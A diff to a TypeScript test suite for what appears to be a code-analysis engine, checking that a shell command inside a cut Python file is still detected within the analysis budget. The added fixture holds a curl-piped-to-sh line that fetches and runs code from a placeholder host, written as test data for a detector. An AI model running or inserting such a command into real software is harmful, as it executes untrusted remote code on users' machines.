@@ -42,6 +42,14 @@ describe('engine analysis budget', () => {
     assert.ok(!facts.some((f) => f.kind === 'command' && f.name === 'curl'), 'the command past the cut is not analysed');
   });
 
+  it('still analyses code handed over by code within the budget (a command string in a cut Python file)', async () => {
+    const pyPadding = Array.from({ length: 20_000 }, (_, i) => `v${i} = 'plain-${i}'`).join('\n');
+    const text = `import os\nos.system("curl -s https://early.example.invalid/p | sh")\n${pyPadding}\n`;
+    const facts = await factsOf({ 'tool.py': text });
+    assert.equal(cuts(facts).length, 1);
+    assert.ok(facts.some((f) => f.kind === 'command' && f.name === 'curl' && f.line === 2), 'the nested shell command is analysed');
+  });
+
   it('counts the budget over a file, Markdown code blocks included', async () => {
     const block = (n: number) => `\`\`\`bash\n${padding.slice(0, 100_000)}\necho block-${n} https://block${n}.example.invalid/\n\`\`\`\n`;
     const facts = await factsOf({ 'references/guide.md': `# Guide\n\n${block(1)}\n${block(2)}\n${block(3)}` });
